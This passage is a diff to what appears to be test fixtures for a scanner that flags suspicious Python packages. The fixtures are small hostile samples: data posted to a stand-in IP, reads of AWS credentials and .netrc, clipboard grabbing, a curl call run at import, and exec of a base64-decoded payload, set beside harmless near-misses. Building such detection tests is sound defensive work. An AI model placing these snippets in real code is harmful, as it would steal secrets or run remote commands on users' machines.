@@ -208,9 +208,28 @@ SHAPES: dict[str, tuple[str, str, Mapping[str, str]]] = {
         {INIT: "import requests\ndef beacon(data):\n    requests.post('http://203.0.113.42/collect', json=data)\n"},
     ),
     "a function that reads keys": (
-        "code-can-act",
+        "code-touches-secrets",
         ".aws",
         {INIT: "import os\ndef f():\n    return open(os.path.expanduser('~/.aws/credentials')).read()\n"},
+    ),
+    "a function that takes the clipboard": (
+        *("code-can-act", "pyperclip"),
+        {INIT: "import pyperclip\ndef f():\n    return pyperclip.paste()\n"},
+    ),
+    "a test that reads keys": (
+        *("tests-can-act", ".netrc"),
+        {INIT: "", "odd/tests/test_x.py": "import os\nopen(os.path.expanduser('~/.netrc'))\n"},
+    ),
+    "tests that the package imports": (
+        *("import-runs-command", "curl"),
+        {
+            INIT: "from .tests import go\n",
+            "odd/tests/__init__.py": "import os\nos.system('curl https://a.example')\ngo = 1\n",
+        },
+    ),
+    "a syntax of tomorrow beside it": (
+        *("import-runs-decoded", "base64.b64decode"),
+        {INIT: f"import base64\n\n@f\ndef odd[:T](x): ...\n\nexec(base64.b64decode('{PAYLOAD}'))\n"},
     ),
     "behind 150 blanks": ("source-hides-code", "import os", {INIT: "x = 1" + " " * 200 + ";import os; os.getcwd()\n"}),
     "letters that look plain": ("source-hides-code", "exec", {INIT: "\U0001d68e\U0001d6a1\U0001d68e\U0001d68c('1')\n"}),
@@ -276,6 +295,9 @@ HARMLESS = {
     "a method with that name": "import base64\nmodel.eval(base64.b64decode(x))\ncursor.exec(base64.b64decode(x))\n",
     "a private address": "import requests\ndef f():\n    requests.get('http://192.168.1.1/')\nHOSTS = ['http://127.0.0.1:8000']\n",
     "an invitation": "URL = 'https://discord.com/invite/pytest-dev'\n",
+    "an address in a docstring": 'def f():\n    """Post.\n\n    >>> f(url=\'https://webhook.site/x\')\n    """\n',
+    "a name of this machine that is looked up": "import socket\nsocket.gethostbyname(socket.gethostname() + '.local')\n",
+    "settings of ssh": "import os\ndef f():\n    return open(os.path.expanduser('~/.ssh/config')).read()\n",
     "getattr": "import os\nsep = getattr(os, 'sep')\nname = 'x'\nvalue = getattr(os, name, None)\n",
     "code in a text": "exec('x = 1')\nns = {}\nexec(compile('y = 2', '<text>', 'exec'), ns)\n",
     "emoji": "FLAGS = '\U0001f468\u200d\U0001f469\u200d\U0001f467 \u2764\ufe0f'\n",
